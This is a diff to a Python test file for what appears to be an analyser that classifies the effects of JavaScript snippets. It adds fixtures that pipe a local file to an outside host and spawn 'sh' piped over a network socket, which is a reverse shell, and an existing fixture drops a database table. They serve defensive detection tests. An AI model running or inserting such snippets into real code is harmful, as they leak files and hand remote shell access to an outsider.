@@ -154,6 +154,16 @@ _CP = "require('child_process')"
         ),
         ("require('http').createServer((q, r) => r.end('x')).listen(80)", {"traits": {"network/listens"}}),
         ("Bun.serve({port: 1, fetch: () => new Response('x')})", {"traits": {"network/listens"}}),
+        (
+            "fs.createReadStream('a').pipe(require('http').request('http://a.org/'))",
+            {"reads": ["a"], "urls": ["http://a.org/"], "traits": {"network"}, "sends": True},
+        ),
+        (
+            "s = "
+            + _CP
+            + ".spawn('sh'); net.connect(1, 'a.org', function () { this.pipe(s.stdin); s.stdout.pipe(this) })",
+            {"shell": ["sh"], "urls": ["https://a.org:1/"], "traits": {"network"}, "sends": True},
+        ),
         # data
         (
             "const {Client} = require('pg'); const c = new Client(); c.query('DROP TABLE t')",
@@ -224,6 +234,7 @@ def test_what_could_act_and_is_not_understood_is_opaque(text: str):
 def test_calls_into_modules_that_are_not_read_are_told_from_the_rest():
     assert effects("require('lodash').chunk([1], 2)")["opaque"] == MODULES
     assert "opaque" not in effects("console.log(require('./node_modules/x').configs.y)")
+    assert "opaque" not in effects("require('./x').y.forEach((c, i) => console.log(i, Object.keys(c)))")
 
 
 def test_code_from_the_network_is_said_to_be():
